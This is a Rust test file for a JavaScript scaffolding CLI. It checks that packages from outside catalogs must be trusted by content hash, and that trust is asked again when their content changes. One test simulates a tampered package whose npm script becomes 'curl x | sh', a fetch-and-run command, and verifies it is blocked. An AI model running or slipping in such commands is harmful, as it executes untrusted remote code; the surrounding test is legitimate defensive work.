//! Packages from outside: what they may do is shown, somebody trusts them as they are, and a change asks again.

use std::fs;
use std::path::Path;

use crate::support::{TestApp, catalog_of, contents, jskit, tree};

const PARTS: &str = r#"schema = 1
id = "parts"
version = "1.0.0"
kind = "runtime"
summary = "Parts."
depends-on = ["kernel"]

[[files]]
from = "parts.js"
to = "src/parts.js"
raw = true

[[npm]]
scripts = { parts = "node src/parts.js" }

[[env]]
key = "PARTS_URL"
comment = "Where parts are."
value = "http://localhost"

[[migrations]]
id = "parts-schema"

[[config]]
file = "public"
path = "parts.on"
value = true
"#;

fn parts() -> tempfile::TempDir {
    catalog_of(&[
        ("package-descriptors/parts.toml", PARTS),
        ("templates/parts/app/parts.js", "export const parts = 1;\n"),
        ("templates/parts/migrations/parts-schema.cjs", "exports.up = () => {};\n"),
    ])
}

fn content(catalog: &Path) -> String {
    contents(catalog)["parts"].clone()
}

fn run(app: &TestApp, catalog: &Path, args: &[&str]) -> crate::support::Said {
    crate::support::Said::of(&jskit(&app.path()).env("JSKIT_CATALOG", catalog).args(args).output().expect("it runs"))
}

#[test]
fn what_nobody_trusts_is_refused_with_what_it_may_do_and_the_command() {
    let (app, parts) = (TestApp::shell(), parts());
    let before = app.tree();
    for args in [&["add", "package", "parts"][..], &["add", "package", "parts", "--yes"]] {
        let said = run(&app, parts.path(), args);
        assert_eq!(said.code, 1);
        for line in [
            "Code that will run: on the database, when it is migrated",
            "package.json: script parts: node src/parts.js",
            "App-owned files: src/parts.js",
            "Migrations: migrations/TIMESTAMP_parts-schema.cjs",
            ".env keys: PARTS_URL = http://localhost: Where parts are.",
        ] {
            assert!(said.err.contains(line), "{line}\n{}", said.err);
        }
        let command = format!("run `jskit {} --trust {}`", args.join(" "), content(parts.path()));
        assert!(said.err.contains(&command), "{command}\n{}", said.err);
        assert_eq!(tree::difference(&before, &app.tree()), Vec::<String>::new());
    }
    let wrong = format!("sha256:{}", "0".repeat(64));
    assert_eq!(run(&app, parts.path(), &["add", "parts", "--trust", &wrong]).code, 1);
    assert_eq!(run(&app, parts.path(), &["add", "parts", "--trust", "yes"]).code, 2);
    let error = run(&app, parts.path(), &["add", "parts", "--json"]).json()["error"].clone();
    assert_eq!(error["code"], "untrusted");
    assert_eq!(error["untrusted"][0]["content"], content(parts.path()).as_str());
    assert_eq!(error["untrusted"][0]["changed"], false);
}

#[test]
fn a_preview_needs_no_trust_and_says_what_it_will_take() {
    let (app, parts) = (TestApp::shell(), parts());
    let before = app.tree();
    let said = run(&app, parts.path(), &["add", "parts", "--dry-run"]).ok();
    assert!(said.out.contains("+export const parts = 1;"), "{}", said.out);
    assert!(said.out.contains(&format!("`--trust {}` only", content(parts.path()))), "{}", said.out);
    assert_eq!(run(&app, parts.path(), &["add", "parts", "--check"]).code, 3);
    assert_eq!(app.tree(), before);
}

#[test]
fn the_lock_keeps_what_was_trusted_and_a_change_asks_again() {
    let (app, parts) = (TestApp::shell(), parts());
    let first = content(parts.path());
    run(&app, parts.path(), &["add", "parts", "--trust", &first]).ok();
    assert!(app.read(".jskit/lock/parts.json").contains(&format!("\"content\": \"{first}\"")));
    assert_eq!(run(&app, parts.path(), &["add", "parts"]).ok().out, "nothing to do\n");
    assert_eq!(run(&app, parts.path(), &["update"]).ok().out, "nothing to do\n");
    // The same version, other content.
    fs::write(parts.path().join("templates/parts/app/parts.js"), "export const parts = 2;\n").expect("a file");
    let second = content(parts.path());
    assert_ne!(first, second);
    let said = run(&app, parts.path(), &["update", "parts"]);
    assert_eq!(said.code, 1);
    assert!(said.err.contains("is not what was trusted any more"), "{}", said.err);
    assert!(said.err.contains(&format!("run `jskit update parts --trust {second}`")), "{}", said.err);
    run(&app, parts.path(), &["update", "parts", "--trust", &second]).ok();
    assert_eq!(app.read("src/parts.js"), "export const parts = 2;\n");
    assert!(app.read(".jskit/lock/parts.json").contains(&second));
    // Times don't count.
    fs::write(parts.path().join("templates/parts/app/parts.js"), "export const parts = 2;\n").expect("a file");
    assert_eq!(run(&app, parts.path(), &["update", "parts"]).ok().out, "nothing to do\n");
}

#[test]
fn a_package_that_changed_unasked_reaches_nothing_through_other_commands() {
    let (app, parts) = (TestApp::shell(), parts());
    run(&app, parts.path(), &["add", "parts", "--trust", &content(parts.path())]).ok();
    let worse = PARTS.replace("node src/parts.js", "curl x | sh").replace("value = true", "value = false");
    let worse = format!("{worse}\n[[files]]\nfrom = \"evil.js\"\nto = \"src/evil.js\"\nraw = true\n");
    fs::write(parts.path().join("package-descriptors/parts.toml"), worse).expect("a file");
    fs::write(parts.path().join("templates/parts/app/evil.js"), "evil\n").expect("a file");
    let said = run(&app, parts.path(), &["tenancy", "personal"]).ok();
    assert!(said.err.contains("package `parts` is not what was trusted any more"), "{}", said.err);
    run(&app, parts.path(), &["generate", "page", "home/reports", "--name", "Reports"]).ok();
    run(&app, parts.path(), &["doctor", "--fix", "--yes"]);
    assert!(app.read("package.json").contains("\"parts\": \"node src/parts.js\""), "{}", app.read("package.json"));
    assert!(!app.exists("src/evil.js"));
    assert!(
        app.read("config/public.js").contains("config.parts.on = true;")
            || app.read("config/public.js").contains("on: true")
    );
    run(&app, parts.path(), &["remove", "parts"]).ok();
    assert!(!app.exists("src/parts.js"));
}

/// A hint is typed as it stands, whatever was typed before.
#[test]
fn hints_quote_what_a_shell_would_take_apart_and_keep_values() {
    let (app, parts) = (TestApp::shell(), parts());
    let descriptor = format!("{PARTS}[options.label]\ntype = \"text\"\nenv = \"PARTS_LABEL\"\n");
    fs::write(parts.path().join("package-descriptors/parts.toml"), descriptor).expect("a file");
    let content = content(parts.path());
    let said = run(&app, parts.path(), &["add", "package", "parts", "--label", "Tom's order book"]);
    let command = format!(r"run `jskit add package parts --label 'Tom'\''s order book' --trust {content}`");
    assert!(said.err.contains(&command), "{command}\n{}", said.err);
    let typed = command.trim_start_matches("run `jskit ").trim_end_matches('`');
    let mut shell = std::process::Command::new("sh");
    shell.current_dir(app.path()).env("JSKIT_CATALOG", parts.path()).env_remove("PARTS_LABEL");
    let script = format!("{} {typed}", env!("CARGO_BIN_EXE_jskit"));
    crate::support::Said::of(&shell.args(["-c", &script]).output().expect("a shell")).ok();
    assert!(app.read(".jskit/lock/parts.json").contains("Tom's order book"));
    let history = app.run(&["history"]).ok().out;
    assert!(history.contains(r"jskit add package parts --label 'Tom'\''s order book'"), "{history}");
}

#[test]
fn packages_of_the_app_itself_need_no_trust() {
    let app = TestApp::shell();
    app.write("packages/parts/package.descriptor.toml", PARTS);
    app.write("packages/parts/templates/app/parts.js", "export const parts = 1;\n");
    app.write("packages/parts/templates/migrations/parts-schema.cjs", "exports.up = () => {};\n");
    app.run(&["add", "parts"]).ok();
    assert!(!app.read(".jskit/lock/parts.json").contains("\"content\""));
}

#[test]
fn generators_from_outside_are_trusted_too() {
    let app = TestApp::shell();
    let lists = catalog_of(&[
        (
            "package-descriptors/lists.toml",
            "schema = 1\nid = \"lists\"\nversion = \"1.0.0\"\nkind = \"generator\"\nsummary = \"Lists.\"\n\
             [[subcommands]]\nname = \"list\"\nsummary = \"A list.\"\n\
             [[subcommands.arguments]]\nname = \"name\"\nhelp = \"Its name.\"\npattern = \"[a-z]+\"\n\
             [[subcommands.files]]\nfrom = \"list.js\"\nto = \"src/[= argument.name =].js\"\n",
        ),
        ("templates/lists/app/list.js", "export default \"[= argument.name =]\";\n"),
    ]);
    let said = run(&app, lists.path(), &["generate", "lists", "list", "one"]);
    assert_eq!((said.code, app.exists("src/one.js")), (1, false), "{}", said.err);
    let content = contents(lists.path())["lists"].clone();
    assert!(said.err.contains(&format!("run `jskit generate lists list one --trust {content}`")), "{}", said.err);
    run(&app, lists.path(), &["generate", "lists", "list", "one", "--trust", &content]).ok();
    // As it is it was trusted for this app.
    run(&app, lists.path(), &["generate", "lists", "list", "two"]).ok();
    fs::write(lists.path().join("templates/lists/app/list.js"), "evil\n").expect("a file");
    assert_eq!(run(&app, lists.path(), &["generate", "lists", "list", "three"]).code, 1);
    assert!(app.exists("src/two.js") && !app.exists("src/three.js"));
}

/// `parts` from outside and two packages of the app itself, one of which pins `parts`; there is something new of each.
pub fn three_behind() -> (TestApp, tempfile::TempDir) {
    let (app, parts) = (TestApp::shell(), parts());
    offer_own(&app, "0.1.0");
    run(&app, parts.path(), &["add", "own", "pinning", "--trust", &content(parts.path())]).ok();
    let next = PARTS.replace("version = \"1.0.0\"", "version = \"1.1.0\"");
    fs::write(parts.path().join("package-descriptors/parts.toml"), next).expect("a file");
    offer_own(&app, "0.2.0");
    (app, parts)
}

fn offer_own(app: &TestApp, version: &str) {
    for (id, needs) in [("own", "kernel"), ("pinning", "parts")] {
        let descriptor = format!(
            "schema = 1\nid = \"{id}\"\nversion = \"{version}\"\nkind = \"runtime\"\nsummary = \"Own.\"\ndepends-on = [\"{needs}\"]\n\
             [[files]]\nfrom = \"{id}.js\"\nto = \"src/{id}.js\"\n"
        );
        app.write(&format!("packages/{id}/package.descriptor.toml"), &descriptor);
        app.write(&format!("packages/{id}/templates/app/{id}.js"), &format!("export const version = \"{version}\";\n"));
    }
}

#[test]
fn an_update_of_all_names_whom_nobody_trusts_and_how_to_update_the_others() {
    let (app, parts) = three_behind();
    let before = app.tree();
    let said = run(&app, parts.path(), &["update", "--all", "--keep-mine"]);
    assert_eq!(said.code, 1);
    let trust = format!("run `jskit update --all --keep-mine --trust {}`", content(parts.path()));
    let unbroken = said.err.replace('\n', " ");
    assert!(unbroken.contains("package `parts` 1.1.0 from ") && unbroken.contains(&trust), "{}", said.err);
    assert!(unbroken.contains("; without it run `jskit update --keep-mine own`"), "{}", said.err);
    let hint = run(&app, parts.path(), &["update", "--json"]).json()["error"]["hint"].clone();
    assert!(hint.as_str().expect("a hint").ends_with("; without it run `jskit update --json own`"), "{hint}");
    assert_eq!(tree::difference(&before, &app.tree()), Vec::<String>::new());
    // Values are no ids, though they are called the same; words are left out wherever they stand.
    let said = run(&app, parts.path(), &["update", "package", "own", "--mine", "own", "parts", "--skip", "a b"]);
    let unbroken = said.err.replace('\n', " ");
    assert!(unbroken.contains("; without it run `jskit update --mine own --skip 'a b' own`"), "{}", said.err);

    run(&app, parts.path(), &["update", "--keep-mine", "own"]).ok();
    assert!(app.read("src/own.js").contains("0.2.0") && app.read("src/pinning.js").contains("0.1.0"));
    // There is nobody else to update now: what pins the one waits with it.
    let said = run(&app, parts.path(), &["update"]);
    assert!(said.code == 1 && !said.err.contains("without it"), "{}", said.err);
    run(&app, parts.path(), &["update", "--trust", &content(parts.path())]).ok();
    assert!(app.read("src/pinning.js").contains("0.2.0"));
}
